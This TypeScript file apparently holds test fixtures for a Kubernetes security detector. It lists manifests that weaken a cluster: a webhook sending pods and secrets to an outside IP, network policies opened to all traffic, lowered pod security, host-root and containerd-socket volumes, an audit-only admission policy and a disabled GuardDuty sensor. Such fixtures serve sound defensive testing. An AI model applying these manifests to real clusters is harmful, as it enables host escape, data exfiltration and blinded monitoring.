import type { JsonObject } from '../simulation/go-json.ts';
import { apps, core, grouped } from '../simulation/target.ts';
import type { Attack, Manner } from './attack.ts';
import { writes } from './attacks-rbac.ts';

const changes: readonly Manner[] = ['update', 'merge-patch', 'json-patch', 'apply'];

const webhook = (more: JsonObject = {}): JsonObject => ({
  kind: 'MutatingWebhookConfiguration',
  apiVersion: 'admissionregistration.k8s.io/v1',
  metadata: { name: 'helper' },
  webhooks: [
    {
      name: 'helper.example.net',
      clientConfig: { url: 'https://203.0.113.66/mutate', caBundle: 'LS0tLS1CRUdJTg==' },
      rules: [{ operations: ['CREATE', 'UPDATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], scope: '*' }],
      failurePolicy: 'Ignore',
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
      ...more,
    },
  ],
});

const harmlessWebhook = webhook({
  clientConfig: { service: { name: 'helper', namespace: 'shop', path: '/mutate', port: 443 }, caBundle: 'LS0tLS1CRUdJTg==' },
  failurePolicy: 'Fail',
});

const policy = (spec: JsonObject): JsonObject => ({
  kind: 'NetworkPolicy',
  apiVersion: 'networking.k8s.io/v1',
  metadata: { name: 'default-deny', namespace: 'shop' },
  spec,
});

const denyAll = policy({ podSelector: {}, policyTypes: ['Ingress', 'Egress'] });

const namespace = (labels: JsonObject): JsonObject => ({
  kind: 'Namespace',
  apiVersion: 'v1',
  metadata: { name: 'shop', labels: { 'kubernetes.io/metadata.name': 'shop', ...labels } },
  spec: { finalizers: ['kubernetes'] },
});

const enforced = namespace({ 'pod-security.kubernetes.io/enforce': 'restricted' });

const enforce = 'pod-security.kubernetes.io/enforce';

const volume = (source: JsonObject): JsonObject => ({
  kind: 'PersistentVolume',
  apiVersion: 'v1',
  metadata: { name: 'data-x' },
  spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], persistentVolumeReclaimPolicy: 'Retain', ...source },
});

const quota = (hard: JsonObject): JsonObject => ({
  kind: 'ResourceQuota',
  apiVersion: 'v1',
  metadata: { name: 'shop', namespace: 'shop' },
  spec: { hard },
});

const sensor = (spec: JsonObject): JsonObject => ({
  kind: 'DaemonSet',
  apiVersion: 'apps/v1',
  metadata: { name: 'aws-guardduty-agent', namespace: 'amazon-guardduty', labels: { 'k8s-app': 'aws-guardduty-agent' } },
  spec: {
    selector: { matchLabels: { 'k8s-app': 'aws-guardduty-agent' } },
    template: {
      metadata: { labels: { 'k8s-app': 'aws-guardduty-agent' } },
      spec: {
        containers: [{ name: 'aws-guardduty-agent', image: '111122223333.dkr.ecr.eu-central-1.amazonaws.com/aws-guardduty-agent:v1.9.0' }],
        ...spec,
      },
    },
  },
});

const hooks = grouped('admissionregistration.k8s.io', 'mutatingwebhookconfigurations', undefined, 'helper');

const policies = grouped('networking.k8s.io', 'networkpolicies', 'shop', 'default-deny');

/** Objects that take a guard away. */
export const policyAttacks: readonly Attack[] = [
  writes('webhook-outside', 'has every pod sent outside for mutation', ['D102'], hooks, webhook(), {
    before: harmlessWebhook,
    spellings: {
      'for all there is': webhook({ rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'], scope: '*' }] }),
      'for secrets': webhook({
        rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'], scope: 'Namespaced' }],
      }),
      'beside a harmless one': {
        ...webhook(),
        webhooks: [
          ...(harmlessWebhook['webhooks'] as JsonObject[]),
          { ...(webhook()['webhooks'] as JsonObject[])[0], name: 'second.example.net' },
        ],
      },
    },
    generated: true,
  }),
  writes(
    'network-opened',
    'lets all traffic through',
    ['D119'],
    policies,
    policy({ podSelector: {}, policyTypes: ['Ingress', 'Egress'], ingress: [{}], egress: [{}] }),
    {
      before: denyAll,
      spellings: {
        'by address': policy({
          podSelector: {},
          policyTypes: ['Ingress', 'Egress'],
          ingress: [{ from: [{ ipBlock: { cidr: '0.0.0.0/0' } }] }],
          egress: [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }, { ipBlock: { cidr: '::/0' } }] }],
        }),
        'by two halves': policy({
          podSelector: {},
          policyTypes: ['Egress'],
          egress: [{ to: [{ ipBlock: { cidr: '0.0.0.0/1' } }, { ipBlock: { cidr: '128.0.0.0/1' } }] }],
        }),
        'by IPv6': policy({ podSelector: {}, policyTypes: ['Egress'], egress: [{ to: [{ ipBlock: { cidr: '::/0' } }] }] }),
        'by every namespace': policy({ podSelector: {}, policyTypes: ['Ingress'], ingress: [{ from: [{ namespaceSelector: {} }] }] }),
        'by an empty list of peers': policy({ podSelector: {}, policyTypes: ['Ingress'], ingress: [{ from: [] }] }),
        'after a narrow rule': policy({
          podSelector: {},
          policyTypes: ['Egress'],
          egress: [{ to: [{ podSelector: { matchLabels: { app: 'db' } } }] }, {}],
        }),
      },
    },
  ),
  writes(
    'guard-rail-lowered',
    "lowers a namespace's pod security",
    ['D080'],
    core('namespaces', 'shop', 'shop'),
    namespace({ [enforce]: 'privileged' }),
    {
      before: enforced,
      manners: changes,
      patch: { metadata: { labels: { [enforce]: 'privileged' } } },
      spellings: { 'to baseline': namespace({ [enforce]: 'baseline' }), removed: namespace({}) },
    },
  ),
  writes(
    'guard-rail-excluded',
    'takes a namespace out of the policy engine',
    ['D080'],
    core('namespaces', 'shop', 'shop'),
    namespace({ [enforce]: 'restricted', 'admission.gatekeeper.sh/ignore': 'yes' }),
    {
      before: enforced,
      manners: changes,
      patch: { metadata: { labels: { 'admission.gatekeeper.sh/ignore': 'yes' } } },
      least: 'low',
    },
  ),
  writes(
    'host-path-volume',
    "reaches the host's root through a volume",
    ['D077'],
    core('persistentvolumes', undefined, 'data-x'),
    volume({ hostPath: { path: '/' } }),
    {
      manners: ['create', 'apply-new'],
      spellings: {
        'as a local volume': volume({
          local: { path: '/var/lib/kubelet' },
          nodeAffinity: {
            required: {
              nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/hostname', operator: 'In', values: ['ip-10-0-31-7'] }] }],
            },
          },
        }),
        'with doubled slashes': volume({ hostPath: { path: '//' } }),
        'with a slash at the end': volume({ hostPath: { path: '/etc/', type: 'Directory' } }),
        'through the root of process 1': volume({ hostPath: { path: '/proc/1/root/etc' } }),
        'of the socket': volume({ hostPath: { path: '/var/run/containerd/containerd.sock', type: 'Socket' } }),
      },
      generated: true,
    },
  ),
  writes(
    'admission-policy-weakened',
    'turns an admission policy to auditing',
    ['D103'],
    grouped('admissionregistration.k8s.io', 'validatingadmissionpolicybindings', undefined, 'no-privileged'),
    {
      kind: 'ValidatingAdmissionPolicyBinding',
      apiVersion: 'admissionregistration.k8s.io/v1',
      metadata: { name: 'no-privileged' },
      spec: { policyName: 'no-privileged', validationActions: ['Audit'] },
    },
    {
      before: {
        kind: 'ValidatingAdmissionPolicyBinding',
        apiVersion: 'admissionregistration.k8s.io/v1',
        metadata: { name: 'no-privileged' },
        spec: { policyName: 'no-privileged', validationActions: ['Deny'] },
      },
      manners: changes,
      least: 'low',
    },
  ),
  writes(
    'sensor-starved',
    'has the sensor run on no node',
    ['D118'],
    apps('daemonsets', 'amazon-guardduty', 'aws-guardduty-agent'),
    sensor({ nodeSelector: { 'example.net/none': 'true' } }),
    {
      before: sensor({}),
      manners: changes,
      patch: { spec: { template: { spec: { nodeSelector: { 'example.net/none': 'true' } } } } },
      least: 'low',
    },
  ),
  writes(
    'quota-raised',
    'raises the quota',
    ['D120'],
    core('resourcequotas', 'shop', 'shop'),
    quota({ 'limits.cpu': '4000', 'limits.memory': '16Ti', pods: '10k' }),
    {
      before: quota({ 'limits.cpu': '40', 'limits.memory': '160Gi', pods: '100' }),
      manners: changes,
      spellings: {
        'a limit dropped': quota({ pods: '100' }),
        'in thousandths and bytes': quota({ 'limits.cpu': '4000000m', 'limits.memory': '17592186044416', pods: '1e4' }),
      },
      least: 'low',
    },
  ),
];
